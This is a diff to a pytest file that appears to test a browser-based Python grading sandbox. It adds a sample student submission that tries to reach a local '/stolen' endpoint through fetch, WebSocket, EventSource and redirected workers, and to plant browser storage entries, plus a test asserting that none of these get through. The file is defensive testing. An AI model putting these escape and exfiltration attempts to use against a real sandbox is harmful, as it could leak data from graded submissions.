@@ -32,6 +32,40 @@ for address in ("http://localhost:{port}/stolen", "http://127.0.0.1:{port}/stole
         print(error)
 """
 
+ESCAPING = """
+import js
+from pyodide.ffi import to_js
+
+OTHER = "http://localhost:{port}/stolen"
+
+
+def further_workers():
+    \"""Workers that are loaded from the site's own address, which sends no policy, told to begin elsewhere.\"""
+    for file in js.performance.getEntriesByType("resource"):
+        if file.name.endswith(".js"):
+            worker = js.Worker.new(file.name, to_js({{"type": "module"}}, dict_converter=js.Object.fromEntries))
+            begin = {{"base": OTHER, "files": {{}}, "later": [], "helps": True}}
+            worker.postMessage(to_js(begin, dict_converter=js.Object.fromEntries))
+
+
+for way in (
+    lambda: js.fetch(OTHER),
+    lambda: js.WebSocket.new(OTHER.replace("http", "ws")),
+    lambda: js.EventSource.new(OTHER),
+    further_workers,
+    lambda: js.caches.open("planted"),
+    lambda: js.indexedDB.open("planted"),
+):
+    try:
+        way()
+    except Exception as error:
+        print(error)
+"""
+PLANTED = """async () => [
+  ...(await caches.keys()),
+  ...(await indexedDB.databases()).map((one) => one.name),
+].filter((name) => name === "planted")"""
+
 
 @pytest.mark.parametrize(
     ("assignment", "place", "right"),
@@ -105,4 +139,16 @@ def test_a_hand_in_reaches_no_other_host(visit, tmp_path):
         page.until("() => /[✓✗]/.test(document.querySelector('main').innerText)")
         assert len(visit.complaints) == 2, "it has tried both addresses"
         assert other.asked == [], "and the browser has let neither through"
+        visit.complaints.clear()
+
+
+def test_a_hand_in_finds_no_way_around_the_wall_and_leaves_nothing_behind(visit, tmp_path):
+    with Host(tmp_path) as other:
+        file = tmp_path / "escaping.py"
+        file.write_text(ESCAPING.format(port=other.server_port) + RIGHT.read_text("utf-8"), "utf-8")
+        page = visit()
+        hand_in(page, file)
+        assert_graded(page)
+        assert other.asked == []
+        assert page.raw.evaluate(PLANTED) == []
         visit.complaints.clear()
